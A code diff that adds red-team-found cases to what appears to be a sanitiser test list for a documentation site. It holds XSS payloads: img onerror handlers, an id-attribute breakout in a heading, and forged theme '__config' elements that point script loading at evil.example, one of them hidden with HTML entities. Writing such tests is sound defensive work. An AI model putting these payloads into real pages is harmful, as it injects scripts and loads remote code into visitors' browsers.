@@ -36,6 +36,14 @@ SHEETS = [
     ("iframe-srcdoc", "body", '<iframe srcdoc="<script>parent.__pwned=113</script>"></iframe>'),
     ("balise-non-fermee", "body", "<img src=x onerror=alert(114)//"),
     ("chevron-dans-attribut", "body", '<img alt=">" src=x onerror=alert(115)>'),
+    # found by a red team (2026-12-07): an id given to a heading went raw into the table of contents,
+    # which is outside the part of the page the sanitiser cleans
+    ("titre-section-id", "body", "### Outil {: id='}x\"><img/@ title=\">\" \"a src=x onerror=window.__pwned=116;alert(116)>' }"),
+    # ... and an element of the content with the id of the theme's settings came first in the page
+    # (Material would read its base address, and load from it, from there)
+    ("config-du-theme", "body", '<div id="__config">{"base":"https://evil.example/x/","features":["navigation.instant"],'
+                                '"translations":{},"search":"https://evil.example/w.js","version":{"provider":"mike"}}</div>'),
+    ("config-du-theme-entites", "body", '<p id="&#95;&#95;config">{"base":"//evil.example/y/"}</p>'),
 ]
 
 # the module's fields (YAML text) and the vocabulary's term (YAML text)
